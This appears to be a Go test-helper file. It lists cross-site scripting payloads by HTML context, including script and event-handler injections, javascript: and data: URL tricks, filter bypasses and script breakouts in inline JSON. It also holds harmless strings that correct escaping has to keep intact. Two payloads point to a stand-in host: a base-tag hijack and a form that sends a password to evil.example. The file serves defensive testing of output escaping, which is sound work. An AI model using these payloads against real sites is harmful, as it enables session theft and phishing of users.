package htmlexec

import "slices"

// A Context is a place on a page that a payload is made to break out of.
type Context string

// The contexts.
const (
	InText     Context = "text"               // <p>…</p>, <title>…</title>
	InQuoted   Context = "quoted attribute"   // <input value="…">, value='…'
	InUnquoted Context = "unquoted attribute" // <input value=…>
	InURL      Context = "URL"                // <a href="…">
	InJSON     Context = "inline JSON"        // <script>… = {"name":"…"}</script>
)

// A Payload is an input that runs, or adds markup, where a page takes it for
// something else than text.
type Payload struct {
	Name  string
	In    Context
	Input string

	// Harmless is an input that a right program treats like Input: a name, or,
	// for a URL, one with a scheme to refuse. For [SameShape] and [Harmless].
	Harmless string
}

// Payloads returns hostile inputs, those made for the given contexts, or all.
// Any of them can be put anywhere: none may do harm in any place. Each has
// one line, and no character that a page cannot show.
func Payloads(in ...Context) []Payload {
	var list []Payload
	for _, p := range payloads {
		if len(in) == 0 || slices.Contains(in, p.In) {
			list = append(list, p)
		}
	}
	return list
}

const (
	ann     = "Ann"
	refused = "x-unknown:Ann"
)

var payloads = []Payload{
	{"script", InText, `<script>alert(1)</script>`, ann},
	{"image that fails to load", InText, `Ann <img src=x onerror=alert(1)>`, ann},
	{"odd case, slash for a space", InText, `<sVg/oNLoaD=alert(1)//>`, ann},
	{"script left when a script is cut out", InText, `<scr<script></script>ipt>alert(1)</scr<script></script>ipt>`, ann},
	{"tag that is never closed", InText, `<img src=x onerror="alert(1)" alt="`, ann},
	{"end of title, text area and style", InText, `</title></textarea></style><iframe onload=alert(1)></iframe>`, ann},
	{"end of a comment", InText, `--!><details open ontoggle=alert(1)>`, ann},
	{"frame with a document", InText, `<iframe srcdoc="&lt;script&gt;alert(1)&lt;/script&gt;"></iframe>`, ann},
	{"link", InText, `<a href="javascript:alert(1)">click me</a>`, ann},
	{"address of all scripts", InText, `<base href="https://evil.example/">`, ann},
	{"form that asks for a password", InText, `</p><form action="https://evil.example/"><input name=password></form>`, ann},
	{"comment that hides the rest", InText, `Ann <!-- `, ann},
	{"end of the elements around it", InText, `Ann </p></div></main>`, ann},

	{"handler behind a double quote", InQuoted, `Ann" autofocus onfocus="alert(1)`, ann},
	{"handler behind a single quote", InQuoted, `Ann' autofocus onfocus='alert(1)`, ann},
	{"element behind either quote", InQuoted, `Ann'"><svg onload=alert(1)>`, ann},

	{"handler behind a space", InUnquoted, `Ann onmouseover=alert(1)`, ann},
	{"handler behind a tab", InUnquoted, "Ann\tautofocus\tonfocus=alert(1)", ann},
	{"handler behind a form feed", InUnquoted, "Ann\fonclick=alert`1`", ann},
	{"element behind the bracket", InUnquoted, `Ann><script>alert(1)</script>`, ann},

	{"javascript", InURL, `javascript:alert(1)`, refused},
	{"javascript in odd case", InURL, `JaVaScRiPt:alert(1)`, refused},
	{"javascript behind a space", InURL, "  javascript:alert(1)", refused},
	{"javascript behind a control character", InURL, "\x01javascript:alert(1)", refused},
	{"javascript with a tab inside", InURL, "java\tscript:alert(1)", refused},
	{"javascript with an entity inside", InURL, `javascript&colon;alert(1)`, refused},
	{"javascript that looks like a host", InURL, `javascript://shop.example/%0aalert(1)`, refused},
	{"vbscript", InURL, `vbscript:MsgBox(1)`, refused},
	{"document in the URL", InURL, `data:text/html,<script>alert(1)</script>`, refused},
	{"encoded document in the URL", InURL, `data:text/html;base64,PHNjcmlwdD5hbGVydCgxKTwvc2NyaXB0Pg==`, refused},
	{"picture with a script in the URL", InURL, `data:image/svg+xml,<svg xmlns="http://www.w3.org/2000/svg" onload="alert(1)"/>`, refused},

	{"end of the script", InJSON, `</script><script>alert(1)</script>`, ann},
	{"end of the script in odd case", InJSON, `</ScRiPt ><img src=x onerror=alert(1)>`, ann},
	{"comment in the script", InJSON, `<!--<script>`, ann},
	{"end of a double-quoted string", InJSON, `Ann";alert(1);"`, ann},
	{"end of a single-quoted string", InJSON, `Ann'-alert(1)-'`, ann},
	{"backslash before the quote", InJSON, `Ann\";alert(1)//`, ann},
	{"code in a template string", InJSON, "Ann ${alert(1)}", ann},
}

// Letters returns harmless inputs that must stay as they are, for [Shows],
// [Attribute] and [State]: whoever repairs hostile text by deleting or decoding,
// or escapes it twice, spoils these.
func Letters() []string {
	return []string{
		`Tom & Jerry`,
		`O'Brien said "no"`,
		`1 < 2 && 3 > 2`,
		`I <3 you`,
		`a <b>bold</b> claim`,
		`&lt;b&gt; means <b>`,
		`fish &amp; chips, &copy 2024`,
		`C:\new\table`,
		`100% of a+b=c`,
		`<script>alert('my first program')</script>`,
		`javascript: is a scheme, onclick=x an attribute`,
		`{{.Name}} ${name} %s`,
		"Zoë 李 😀",
	}
}
